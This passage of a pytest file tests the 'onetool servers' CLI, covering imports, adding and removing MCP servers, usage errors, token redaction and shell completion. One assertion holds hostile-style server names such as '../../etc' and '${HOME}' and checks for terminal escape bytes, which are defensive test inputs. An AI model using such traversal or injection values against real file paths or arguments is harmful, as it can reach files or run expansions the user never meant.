    assert set(config_of(project).servers) == {"../../etc", "a: b", "'quoted'", "${HOME}", "null"}
    assert "\x1b" not in done.stdout + done.stderr


def test_from_standard_input(project):
    done = invoke("servers", "import", "-", cwd=project, stdin=FORMS["config.toml"])
    assert done.returncode == 0
    assert list(config_of(project).servers) == ["a", "b"]
    config = project / ".onetool" / "onetool.yaml"
    assert f"A running server that uses {config} starts new commands after a reload" in done.stderr


def test_a_server_behind_a_url_needs_no_reload(project):
    done = invoke("servers", "add", "far", "--url", "http://127.0.0.1:1/mcp", cwd=project)
    assert f"A running server that uses {project}/.onetool/onetool.yaml reads it by itself" in done.stderr


@pytest.mark.parametrize(
    ("args", "code", "why"),
    [
        (["import", "f.json", "--from", "cursor"], 2, "not both"),
        (["import", "--from", "cursro"], 2, "did you mean cursor"),
        (["import", "--from", "cursor"], 1, "Cursor has no servers here; read: ~/.cursor/mcp.json"),
        (["import", "f.json", "--project"], 2, "add --from CLIENT"),
        (["import", "f.json", "--only", "bb"], 2, "there is no server bb"),
        (["add", "x"], 2, "--url URL"),
        (["add", "x", "--url", "http://h", "--", "cmd"], 2, "--url URL"),
        (["add", "x", "--header", "a=b", "--", "cmd"], 2, "--header"),
        (["add", "x", "--env", "secret-without-a-name", "--", "cmd"], 2, "write NAME=VALUE"),
        (["add", "x", "--", "onetool", "mcp"], 1, "OneTool itself"),
        (["remove", "x"], 1, "There is no server 'x'"),
    ],
)
def test_wrong_usage(project, args, code, why):
    put(project / "f.json", FORMS["mcp.json"])
    done = invoke("servers", *args, cwd=project)
    assert (done.returncode, why in done.stderr) == (code, True), done.stderr
    assert "secret-without" not in done.stderr
    assert not (project / ".onetool").exists()


def test_add_and_remove(project):
    add = invoke(
        "servers", "add", "time", "--env", f"A_TOKEN={TOKEN}", "--", "mcp-server-time", "--zone", "UTC", cwd=project
    )
    assert add.returncode == 0, add.stderr
    assert "Next: onetool servers test" in add.stdout
    assert TOKEN not in add.stdout + add.stderr
    url = invoke(
        "servers",
        "add",
        "docs",
        "--url",
        "http://h/x",
        "--sse",
        "--header",
        f"Authorization=Bearer {TOKEN}",
        cwd=project,
    )
    assert url.returncode == 0, url.stderr
    servers = config_of(project).servers
    assert (servers["time"].command, servers["time"].args, servers["time"].env) == (
        "mcp-server-time", ("--zone", "UTC"), {"A_TOKEN": TOKEN},
    )  # fmt: skip
    assert (servers["docs"].transport, servers["docs"].headers) == ("sse", {"Authorization": f"Bearer {TOKEN}"})
    assert TOKEN not in (project / ".onetool" / "onetool.yaml").read_text()
    again = invoke("servers", "add", "time", "--", "other", cwd=project)
    assert (again.returncode, "already exists; --replace" in again.stderr) == (1, True)
    assert invoke("servers", "add", "time", "--replace", "--", "other", cwd=project).returncode == 0
    assert config_of(project).servers["time"].command == "other"
    assert "did you mean docs" in invoke("servers", "remove", "dosc", cwd=project).stderr
    for name in ("time", "docs"):
        assert invoke("servers", "remove", name, cwd=project).returncode == 0
    assert config_of(project).servers == {}


def test_the_config_that_was_named_is_the_one_that_changes(project):
    named = put(project / "mine.yaml", "menu: run\n")
    put(project / "mcp.json", FORMS["mcp.json"])
    assert invoke("servers", "import", "mcp.json", "--config", "mine.yaml", cwd=project).returncode == 0
    assert list(load_config(named).servers) == ["a", "b"]
    assert not (project / ".onetool").exists()


def test_names_are_completed(project):
    put(project / ".onetool" / "onetool.yaml", "servers: {clock: {command: x}, docs: {command: x}}\n")

    def completed(*words):
        env = {
            "_ONETOOL_COMPLETE": "bash_complete",
            "COMP_WORDS": " ".join(("onetool", *words)),
            "COMP_CWORD": str(len(words)),
        }
        done = subprocess.run(
            [str(Path(sys.executable).with_name("onetool"))],
            env={**os.environ, **env}, capture_output=True, text=True, timeout=60, check=False,
        )  # fmt: skip
        return re.findall(r"^plain,(.*)$", done.stdout, re.MULTILINE)

    assert completed("servers", "test", "cl") == ["clock"]
    assert completed("servers", "import", "--from", "c") == [
        "claude-code",
        "claude-desktop",
        "cursor",
        "codex",
        "cline",
        "copilot",
    ]
